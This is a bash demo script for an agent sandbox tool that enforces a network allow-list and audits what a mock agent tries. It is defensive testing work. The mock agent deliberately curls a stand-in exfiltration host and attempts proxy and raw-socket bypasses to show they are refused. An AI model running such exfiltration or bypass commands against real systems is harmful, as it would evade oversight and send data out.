#!/usr/bin/env bash
# The main job: install, build, and run an agent in the sandbox with an allow-list.
# A local origin stands in for the API the agent needs (on the host's 127.0.0.2, which the
# policy lets the proxy dial); the "agent" reaches it through the proxy, is refused a host
# that is not on the list (with the reason), cannot go around the proxy, and the audit
# summary of what it tried is printed. The same again run by an ordinary user the demo
# creates (no root, no setuid helper: docs/rootless.md). Then the same policy rendered
# as docker commands. Run it as root (it installs, and creates that user); all traffic
# stays on this machine.
set -euo pipefail
cd "$(dirname "$0")/.."
[ "${AR_DEMO_NO_INSTALL:-0}" = 1 ] || scripts/install-deps.sh
[ "${AR_DEMO_NO_INSTALL:-0}" = 1 ] || scripts/build.sh
A=${AGENTRUN:-./build/agentrun}
tmp=$(mktemp -d /tmp/agentrun-demo.XXXXXX)
mkdir -m 755 "$tmp/www"
echo '{"status": "ok", "pods": 3}' >"$tmp/www/status.json"
port=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.2",0)); print(s.getsockname()[1])')
python3 -m http.server "$port" --bind 127.0.0.2 --directory "$tmp/www" >/dev/null 2>&1 &
origin=$!
trap 'kill $origin; rm -rf "$tmp"' EXIT
for _ in $(seq 1 50); do (exec 3<>"/dev/tcp/127.0.0.2/$port") 2>/dev/null && break; sleep 0.1; done
cat >"$tmp/policy.json" <<JSON
{"name": "demo-agent", "image": "python:3.12-slim", "allowed_hosts": ["127.0.0.2:$port"],
 "proxy": {"allow_private": ["127.0.0.2"]}}
JSON
chmod 755 "$tmp"
chmod 644 "$tmp/policy.json"
# the agent: who it is, its network, the allowed API, a denied host, two ways around
# shellcheck disable=SC2016 # the shell inside the sandbox expands them
agent='
	port=$1
	echo "uid $(id -u) on $(hostname), proxy $HTTPS_PROXY"
	echo "network: $(ls /sys/class/net | tr "\n" " ")"
	echo "allowed API:   $(curl -sS -m 5 "http://127.0.0.2:$port/status.json")"
	echo "denied host:   $(curl -sS -m 5 http://exfil.example.com/upload)"
	echo "bypass:        $(curl -sS -m 5 --noproxy "*" -o /dev/null "http://127.0.0.2:$port/" 2>&1)"
	echo "raw socket:    $(python3 -c "
import socket
s = socket.create_connection((\"10.254.255.1\", 443), timeout=5)
s.sendall(b\"GET / HTTP/1.1\\r\\nHost: 10.254.255.1\\r\\n\\r\\n\")
print(\"captured by the proxy, closed without a reply\" if not s.recv(4096) else \"answered\")
" 2>&1 | tail -n 1)"
'
echo "== the agent, sandboxed by root, allowed: 127.0.0.2:$port (a local API)"
"$A" --policy "$tmp/policy.json" --audit "$tmp/audit.jsonl" --proxy-log "$tmp/proxy.log" \
	-- sh -c "$agent" _ "$port"
# what the proxy decided for that raw connection, from its audit
python3 - "$tmp/audit.jsonl" <<'PY'
import json, sys
for line in open(sys.argv[1]):
    r = json.loads(line)
    if r.get("host") == "10.254.255.1":
        print("  the proxy:   %s %s: %s" % ("allowed" if r["allowed"] else "refused", r["status"], r["reason"]))
        break
PY
echo "== the audit"
"$A" audit "$tmp/audit.jsonl"

# The same job for an ordinary user: a user of the demo's own, a copy of agentrun it
# may execute (a checkout under /root is not), its runtime directory as logind makes it.
# Where no cgroup is delegated to it (a hybrid host like the build machines) its run
# says, in one line, which limits it cannot enforce and how to get them
# (docs/cgroups.md); everything else is enforced as for root (docs/rootless.md).
user=agentrun-demo
if ! id -u "$user" >/dev/null 2>&1; then
	useradd --create-home --user-group --shell /bin/sh "$user"
	trap 'kill $origin; rm -rf "$tmp" "/run/user/$(id -u $user)"; userdel -r $user 2>/dev/null' EXIT
fi
uid=$(id -u "$user")
install -d -m 0700 -o "$uid" -g "$(id -g "$user")" "/run/user/$uid"
install -D -m 755 "$A" "$tmp/bin/agentrun"
as_user() { (cd / && setpriv --reuid "$uid" --regid "$(id -g "$user")" --init-groups \
	env HOME="$(getent passwd "$user" | cut -d: -f6)" XDG_RUNTIME_DIR="/run/user/$uid" "$@"); }
echo "== the agent, sandboxed by $user (uid $uid, no privileges), the same policy"
as_user "$tmp/bin/agentrun" --policy "$tmp/policy.json" \
	--proxy-log "/run/user/$uid/demo-proxy.log" -- sh -c "$agent" _ "$port"
echo "== $user's audit (kept under its own \$XDG_RUNTIME_DIR/agentrun)"
as_user "$tmp/bin/agentrun" audit demo-agent
echo "== the same policy for docker"
"$A" render --policy "$tmp/policy.json" -- python3 agent.py
